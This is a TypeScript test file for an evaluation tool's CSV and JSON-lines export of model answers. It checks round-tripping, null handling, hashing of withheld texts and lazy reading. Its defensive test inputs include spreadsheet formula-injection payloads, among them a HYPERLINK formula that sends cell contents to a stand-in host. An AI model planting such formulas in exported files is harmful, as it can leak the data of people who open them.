import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { privateTextHash } from '../base/private-text-hash.ts';
import { failedTurn } from '../../test/fixtures/turn-record.ts';
import { turnOf } from '../../test/fixtures/stored-runs.ts';
import type { TurnResult } from '../store/records/turn-record.ts';
import { spreadsheetText } from '../render/table-csv.ts';
import { turnColumns, turnLines } from './export-turns.ts';

const run = {
  name: 'r',
  suite: 'main',
  dataset: { name: 'ours', sha256: '', items: 1, users: 1, counts: { userKind: {}, category: {}, phrasing: {} } },
  model: { name: 'small', sha256: '', parameters: 1, contextTokens: 1, cellTokens: 1 },
};

const made = { itemId: 'q1', userId: 'ann', arm: 'dki', right: true };
const texts = [
  'He said "no", twice',
  'two\nlines\r\nand a third',
  '我喜欢喝茶，也喜欢咖啡。',
  "'tis fine",
  '',
  ' ',
  'null',
];
const formulas = [
  '=HYPERLINK("http://example.org/?"&A1)',
  '+1 555',
  '-2',
  '@SUM(A1)',
  '\t=1',
  '  =1+1',
  '＝1',
  "'=1",
  "''=1",
];

const linesOf = (turns: Iterable<TurnResult>, format: 'csv' | 'jsonl', of = run): string[] => [
  ...turnLines([{ run: of, turns }], format),
];
const rowsOf = (lines: readonly string[]) =>
  parse<Record<string, string>>(lines.join(''), { columns: true, record_delimiter: '\r\n' });

/** As docs/results.md says. */
const withoutApostrophe = (cell: string) => (/^'+(?:\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) ? cell.slice(1) : cell);

test.each([...texts, ...formulas])('%j comes back out of CSV and of JSON lines, and is no formula', (answer) => {
  const turns = [turnOf({ ...made, answer })];
  const [row] = rowsOf(linesOf(turns, 'csv'));
  expect(Object.keys(row!)).toEqual(turnColumns.map(({ name }) => name));
  expect(row!['answer']).not.toMatch(/^[\s=+\-@＝＋－＠]*[=+\-@＝＋－＠]/);
  expect(withoutApostrophe(row!['answer']!)).toBe(answer);
  const [line, ...others] = linesOf(turns, 'jsonl');
  expect(others).toEqual([]);
  expect(line!.split('\n')).toHaveLength(2);
  expect(JSON.parse(line!)).toMatchObject({ answer, run: 'r', itemId: 'q1' });
});

test('numbers stay numbers, also below zero; a list is JSON, and null is an empty cell', () => {
  const turn = turnOf({ ...made, right: false });
  const [row] = rowsOf(linesOf([turn], 'csv'));
  expect(row).toMatchObject({
    ...{ state: 'answered', arm: 'dki', userId: 'ann', gold: 'Turin', acceptedAnswers: '[]', relation: '' },
    ...{ exactMatch: '0', contains: '0', abstention: '', goldLogProbability: '-4', firstTokenMs: '10' },
    ...{ cache: 'bypass', promptTokens: '43', error: '' },
  });
  expect(JSON.parse(linesOf([turn], 'jsonl')[0]!)).toMatchObject({
    ...{ acceptedAnswers: [], relation: null, exactMatch: 0, abstention: null, goldLogProbability: -4 },
    ...{ firstTokenMs: 10, closed: expect.any(Boolean), error: null },
  });
});

test('a failed turn has its error, and null for everything that it did not reach', () => {
  const [line] = linesOf([failedTurn('dki', 'no cell left')], 'jsonl');
  const values = JSON.parse(line!) as Record<string, unknown>;
  expect(values).toMatchObject({ state: 'failed', arm: 'dki', error: 'no cell left', errorCode: null, answer: null });
  const given = Object.keys(values).filter((name) => values[name] !== null);
  expect(given.join(' ')).toBe('run suite state arm userId itemId repeat turn position error');
});

test('random weights have no quality', () => {
  const random = { ...run, model: { ...run.model, name: 'random:tiny-llama' } };
  expect(JSON.parse(linesOf([turnOf(made)], 'jsonl', random)[0]!)).toMatchObject({
    ...{ exactMatch: null, contains: null, goldLogProb: null, wrongClass: null },
    ...{ answer: ' Turin', promptTokens: 43 },
  });
});

test('withheld texts are hashes in every column', () => {
  const others = { ...run, dataset: { ...run.dataset, texts: 'withheld' as const } };
  const failing = failedTurn('dki', 'the text "Turin" is too long');
  const lines = linesOf([turnOf(made), failing], 'jsonl', others);
  const [turn, failed] = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(turn).toMatchObject({
    ...{
      itemId: 'q1',
      gold: privateTextHash('Turin'),
      answer: privateTextHash(' Turin'),
      exactMatch: 1,
      promptTokens: 43,
    },
    query: privateTextHash('Where does my sister live?'),
  });
  expect(failed).toMatchObject({ error: privateTextHash('the text "Turin" is too long') });
  expect([...lines, ...linesOf([turnOf(made), failing], 'csv', others)].join('')).not.toMatch(/Turin|sister/);
});

test('turns are read lazily, one by one as lines are requested', () => {
  let read = 0;
  function* turns(): Generator<TurnResult> {
    for (; read < 100_000; read++) yield turnOf(made);
  }
  const lines = turnLines([{ run, turns: turns() }], 'jsonl');
  for (let wanted = 0; wanted < 3; wanted++) lines.next();
  expect(read).toBe(2);
});

test('text that is no formula stays as it is', () => {
  const plain = ['Turin', '3 - 2', 'a=b', "'quoted'", '−2'];
  expect(plain.map(spreadsheetText)).toEqual(plain);
});
